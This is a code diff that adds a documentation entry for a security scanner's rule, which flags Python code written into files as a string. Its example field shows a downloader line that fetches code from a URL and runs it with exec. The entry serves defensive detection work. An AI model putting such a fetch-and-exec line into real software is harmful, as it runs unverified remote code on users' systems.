@@ -411,6 +411,17 @@ const CODE_RULE_DOCS: RuleDoc[] = [
       'setup.py reading the version from its own package: the finding is info, and that module is judged as install-time code.',
   },
   {
+    id: 'python-code-written',
+    name: 'Python code written to a file',
+    family: 'dynamic-code',
+    severity: 'info',
+    catches:
+      'A string literal that reads as Python statements (an import, or a call of exec, eval, compile or __import__) written into a file with .write(), typically to start it later as a script. The literal is analysed as a virtual file (path#decoded-N) with the trigger of the write, so a downloader kept as text is judged as the code it is.',
+    example: 'tmp.write(b"from urllib.request import urlopen; exec(urlopen(URL).read())")',
+    falsePositives:
+      'Code generators and project templates that write Python files; info, their content is judged on its own.',
+  },
+  {
     id: 'drop-and-run',
     name: 'Writes and runs an executable',
     family: 'process',
